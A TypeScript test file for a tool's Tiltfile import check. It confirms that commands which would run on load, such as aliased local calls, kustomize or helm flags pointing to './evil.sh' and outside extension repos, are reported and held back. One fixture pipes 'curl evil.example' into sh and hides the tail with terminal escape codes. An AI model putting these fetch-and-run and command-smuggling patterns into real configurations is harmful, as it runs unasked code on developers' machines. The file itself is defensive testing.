import { afterEach, beforeEach, expect, it } from "vitest";
import { createProject, inventory, type Project } from "../testing/command-line.ts";

let project: Project;
beforeEach(async () => {
  project = await createProject({});
});
afterEach(() => project.end());

it("shows a command that a load would run as it is written, and lets no terminal hide a part of it", async () => {
  await project.put("Tiltfile", "local('curl evil.example | sh #\u001b[2K\u202e echo all is well')\n");
  const { code, stderr } = await project.run(["import", "Tiltfile"]);
  expect(stderr).toContain("evil.example | sh #\\u{1b}[2K\\u{202e} echo all is well");
  expect(stderr).not.toContain("\u001b");
  expect(code).toBe(2);
});

/** What import tells of a Tiltfile before anything runs; nothing does here, as nobody is asked. */
async function toldOf(text: string): Promise<string> {
  await project.put("Tiltfile", text);
  const { code, stdout, stderr } = await project.run(["import", "Tiltfile"]);
  expect({ code, stdout }, stderr).toEqual({ code: 2, stdout: "" });
  expect(stderr).toMatch(/nothing was loaded, so that nothing runs unasked\nhelp: .* --run-local\n$/);
  return stderr;
}

it.each([
  ["another name for local", 'sh = local\nsh("touch ran")\n', "Tiltfile:1: sh = local\n"],
  ["brackets around local", '(local)("touch ran")\n', 'Tiltfile:1: (local)("touch ran")\n'],
  ["local in a list", '[local][0]("touch ran")\n', 'Tiltfile:1: [local][0]("touch ran")\n'],
  ["local behind a lone CR", '# nothing\rlocal("touch ran")\n', 'Tiltfile:2: local("touch ran")\n'],
  [
    "a program for kustomize",
    'k8s_yaml(kustomize("k", kustomize_bin="./evil.sh"))\n',
    'Tiltfile:1: kustomize("k", kustomize_bin="./evil.sh")\n',
  ],
  [
    "a program for kustomize, by its place",
    'kustomize("k", "./evil.sh")\n',
    'Tiltfile:1: kustomize("k", "./evil.sh")\n',
  ],
  [
    "a program for kustomize, in a map",
    'kustomize(**{"paths": "k", "kustomize_bin": "./evil.sh"})\n',
    "Tiltfile:1: kustomize(**{",
  ],
  [
    "flags of kustomize",
    'kustomize("k", flags=["--enable-helm", "--helm-command=./evil.sh"])\n',
    'Tiltfile:1: kustomize("k", flags=',
  ],
  [
    "a flag as the name of a release",
    'helm("chart", name="--post-renderer=./evil.sh")\n',
    'Tiltfile:1: helm("chart", name="--post-renderer=./evil.sh")\n',
  ],
  ["a path that is put together", 'include("./" + "other")\n', 'Tiltfile:1: include("./" + "other")\n'],
  ["another name for include", 'i = include\ni("./other")\n', "Tiltfile:1: i = include\n"],
  ["a file outside", 'load("../other.star", "x")\n', 'Tiltfile:1: load("../other.star", "x")\n'],
  [
    "an extension that runs what it is given",
    'load("ext://local_output", "local_output")\n',
    'Tiltfile:1: load("ext://local_output", "local_output")\n',
  ],
  [
    "extensions of another repository",
    'v1alpha1.extension_repo(name="default", url="file:///evil")\nload("ext://uibutton", "cmd_button")\n',
    "Tiltfile:1: v1alpha1.extension_repo(",
  ],
  [
    "an extension outside of the repository's folder",
    'v1alpha1.extension(name="uibutton", repo_name="default", repo_path="../../evil")\n',
    "Tiltfile:1: v1alpha1.extension(",
  ],
])("asks before a program may run: %s", async (_, text, told) => {
  expect(await toldOf(text)).toContain(told);
});

it("looks at files whose path is written in another way", async () => {
  await project.put("other", 'local("touch ran")\n');
  expect(await toldOf('include("./\\x6fther")\n')).toContain('other:1: local("touch ran")\n');
  expect(await toldOf('include("./ot\\\r\nher")\n')).toContain('other:1: local("touch ran")\n');
  expect(await toldOf('include(path="./other")\n')).toContain('other:1: local("touch ran")\n');
});

it("tells of an include that a function does in the folder of its caller", async () => {
  await project.put("lib/all.star", 'def all():\n    include("./more")\n');
  await project.put("lib/more", "");
  await project.put("more", 'local("touch ran")\n');
  const told = await toldOf('load("./lib/all.star", "all")\nall()\n');
  expect(told).toContain('lib/all.star:2: include("./more")\n    called in another folder it loads `more`\n');
});

it("looks at the hand-written files of an inventory that is there", async () => {
  await project.put("cluster.config.yaml", `${inventory}tiltfiles: [mine.Tiltfile]\n`);
  await project.put("mine.Tiltfile", 'local("touch ran")\nload("./mine.star", "x")\n');
  await project.put("mine.star", "x = [local]\n");
  const told = await toldOf('local_resource("a", "true")\n');
  expect(told).toContain('  mine.Tiltfile:1: local("touch ran")\n');
  expect(told).toContain("  mine.star:1: x = [local]\n");
});

it("asks before the extensions of an inventory that is there are loaded", async () => {
  const url = "https://evil.example/extensions";
  const extensions = `tilt: { extensions: { url: "${url}", ref: ${"a".repeat(40)} } }\n`;
  await project.put("cluster.config.yaml", inventory + extensions);
  expect(await toldOf('local_resource("a", "true")\n')).toMatch(
    /cluster\.config\.yaml: Tiltfile:\d+: v1alpha1\.extension_repo\(.*evil\.example/,
  );
});

it("shows once what both Tiltfiles load", async () => {
  await project.put("cluster.config.yaml", `${inventory}tiltfiles: [mine.Tiltfile]\n`);
  await project.put("mine.Tiltfile", 'local("touch ran")\nsh = local\n');
  const told = await toldOf('include("./mine.Tiltfile")\n');
  expect(told.split('local("touch ran")')).toHaveLength(2);
  expect(told.split("sh = local")).toHaveLength(2);
});

it("asks on a terminal, and loads nothing without a yes", async () => {
  await project.put("Tiltfile", "sh = local\n");
  const { code, stderr } = await project.run(["import", "Tiltfile"], { answer: "n", columns: 200 });
  expect(stderr).toContain("  Tiltfile:1: sh = local\n");
  expect(stderr).toMatch(/nothing was loaded\n$/);
  expect(code).toBe(0);
});
